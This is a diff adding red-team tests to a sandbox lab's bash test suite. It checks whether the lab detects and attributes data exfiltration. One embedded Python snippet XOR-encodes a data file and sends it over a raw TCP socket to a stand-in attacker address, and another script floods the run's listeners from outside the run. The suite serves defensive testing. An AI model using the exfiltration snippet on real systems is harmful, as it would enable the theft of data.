@@ -287,6 +287,61 @@ j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/memfd.py" --on all --json)
 expect_eq "rootless, 480 MiB held in memfds, limits on: seen, never CONTAINED past the cap" \
 	"$(field '"seen" if d["measured"]["peak_mem_bytes"] > 256<<20 and d["verdict"] != "CONTAINED" else d["verdict"] + " " + str(d["measured"]["peak_mem_bytes"])' <<<"$j")" "seen"
 
+# ---- red team round 3: raw bytes to the attacker without the run's token ----
+# XOR'd CSV on a plain TCP connection, no HTTP head, no token: the lab ties
+# the connection to the run by its peer socket, held by the run's process
+snippet xorraw exfil network 'import os, socket, urllib.parse
+u = urllib.parse.urlparse(os.environ["LAB_ATTACKER"])
+enc = bytes(b ^ 0x55 for b in open(os.environ["LAB_DATA"], "rb").read())
+s = socket.create_connection((u.hostname, u.port), timeout=3)
+s.sendall(enc); s.shutdown(socket.SHUT_WR)
+try: print("reply", s.recv(100))
+except Exception as e: print(e)
+print("sent", len(enc))'
+for who in root nobody; do
+	for on in isolation none env,limits; do
+		if [[ $who == root ]]; then j=$(lab run "$T/xorraw.py" --on $on --json); else j=$(nobody "$LAB" --config "$T/layers.ini" run "$T/xorraw.py" --on $on --json); fi
+		expect_eq "$who: XOR'd CSV to the attacker without the token (--on $on): ESCAPED, tied to the run by its socket" \
+			"$(field 'd["verdict"], d["measured"]["attacker_from_run"], d["measured"]["attacker_bytes"] > 3000, "another run" in " ".join(d["evidence"])' <<<"$j")" \
+			"ESCAPED True True False"
+	done
+done
+# a local user's live connection to a run's listeners with No-network off:
+# its socket is held by no process of the run, so its bytes are not the run's
+snippet idle exfil network 'import time
+time.sleep(3)
+print("slept")'
+cat >"$T/stranger.py" <<'PY'
+import socket, sys, time
+held = []
+for p in map(int, sys.argv[1:]):
+    s = socket.create_connection(("127.0.0.1", p), timeout=2)
+    s.sendall(b"\x13" * 4000)
+    held.append(s)
+time.sleep(1.5)
+PY
+tree_pids() { # PID and its descendants, as "a|b|c"
+	local out=$1 c
+	for c in $(pgrep -P "$1"); do out+="|$(tree_pids "$c")"; done
+	echo "$out"
+}
+for who in root nobody; do
+	if [[ $who == root ]]; then lab run "$T/idle.py" --off network --json >"$T/idle.json" & else nobody "$LAB" --config "$T/layers.ini" run "$T/idle.py" --off network --json >"$T/idle.json" & fi
+	vp=$!
+	ports=""
+	for _ in $(seq 50); do
+		ports=$(ss -Hltnp 2>/dev/null | grep -E "pid=($(tree_pids "$vp"))," | awk '{print $4}' | sed -n 's/^127\.0\.0\.1://p' | tr '\n' ' ')
+		[[ $(wc -w <<<"$ports") -ge 2 ]] && break
+		sleep 0.05
+	done
+	# shellcheck disable=SC2086 # the ports are words
+	[[ -n $ports ]] && $PY "$T/stranger.py" $ports
+	wait $vp
+	expect_eq "$who: a stranger's live connection with 4,000 bytes at an idle run's attacker (No-network off): not the run's, BROKE" \
+		"$(field 'd["verdict"], d["measured"]["attacker_from_run"], d["measured"]["attacker_stranger_bytes"], "no process of this run held" in " ".join(d["evidence"])' <"$T/idle.json")" \
+		"BROKE False 4000 True"
+done
+
 after=$(leftovers_snapshot)
 expect_eq "nothing left behind (temp folders, cgroups, processes, mounts)" "$after" "$before"
 finish
